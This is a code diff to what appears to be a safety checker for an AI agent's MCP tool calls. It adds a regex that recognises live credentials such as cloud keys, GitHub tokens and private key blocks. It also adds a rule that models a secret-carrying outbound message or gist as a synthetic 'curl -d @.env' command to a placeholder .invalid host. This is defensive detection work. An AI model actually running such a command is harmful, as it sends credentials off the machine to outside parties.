@@ -3,7 +3,7 @@
 // message says which derived call it was about ("writes ~/.bashrc: ...").
 import type { Decision, ToolCall } from '../types.js';
 import type { Effect } from './types.js';
-import { deriveFromCommand, deriveFromWrite } from './derive.js';
+import { deriveFromCommand, deriveFromWrite, foldSql } from './derive.js';
 
 /** Derived calls of derived calls are followed this deep (an exec of an exec of ...). */
 export const MAX_EFFECT_DEPTH = 3;
@@ -49,6 +49,12 @@ export function writtenContent(call: ToolCall): string | undefined {
   return undefined;
 }
 
+/**
+ * Values that are live credentials by their shape (provider token formats, private key blocks,
+ * passwords inside connection URLs, KEY=value lines naming a secret).
+ */
+const SECRET_VALUE = /\b(?:sk_live_[0-9A-Za-z]{8,}|rk_live_[0-9A-Za-z]{8,}|AKIA[0-9A-Z]{16}|ASIA[0-9A-Z]{16}|gh[pousr]_[0-9A-Za-z]{30,}|github_pat_[0-9A-Za-z_]{30,}|glpat-[0-9A-Za-z_-]{20,}|xox[abpr]-[0-9A-Za-z-]{10,}|sk-(?:proj-|ant-)?[0-9A-Za-z_-]{20,}|AIza[0-9A-Za-z_-]{35}|npm_[0-9A-Za-z]{36})|-----BEGIN (?:[A-Z]+ )?PRIVATE KEY-----|[a-z][a-z0-9+.-]*:\/\/[^\s:/@"]+:[^\s@/"]{3,}@|\b[A-Z0-9_]*(?:SECRET|PASSWORD|PASSWD|TOKEN|API_KEY|PRIVATE_KEY)[A-Z0-9_]*=[^\s"\\]{6,}/;
+
 /** What an MCP tool call does, read from the operation's name and its usual parameters
  * (filesystem servers' write_file/read_file/..., database servers' query/execute, fetch servers). */
 function mcpEffects(call: ToolCall, cache: EffectCache): Effect[] {
@@ -68,7 +74,14 @@ function mcpEffects(call: ToolCall, cache: EffectCache): Effect[] {
   const url = str('url') ?? str('uri');
   if (url && /^[a-z][a-z0-9+.-]*:/i.test(url)) out.push({ tool: 'fetch', url, via: `MCP ${op} reaches ${url}` });
   const sql = str('sql') ?? str('query') ?? str('statement');
-  if (sql) out.push({ tool: 'exec', command: `psql -c ${JSON.stringify(sql)}`, via: `MCP ${op} runs SQL` });
+  if (sql) out.push({ tool: 'exec', command: `psql -c ${JSON.stringify(foldSql(sql))}`, via: `MCP ${op} runs SQL` });
+  // Secrets sent to a destination outside the machine (a repository, a channel, a gist, a mail).
+  const remote = str('owner') ?? str('repo') ?? str('channel') ?? str('channel_id') ?? str('to') ?? str('recipient') ?? str('webhook_url') ?? (/gist|issue|comment|message|post|send|upload|publish|mail/.test(op) ? op : undefined);
+  if (remote) {
+    const text = JSON.stringify(p);
+    const hit = SECRET_VALUE.exec(text);
+    if (hit) out.push({ tool: 'exec', command: `curl -d @.env https://${remote.replace(/[^\w.-]/g, '') || 'remote'}.invalid/`, via: `MCP ${op} sends a secret (${hit[0].slice(0, 12)}...) to ${remote}` });
+  }
   const cmd = str('command') ?? str('cmd');
   if (cmd && /exec|run|shell|command|terminal|bash/.test(op)) out.push({ tool: 'exec', command: cmd, via: `MCP ${op} runs` }, ...cache.forCommand(cmd));
   return out;
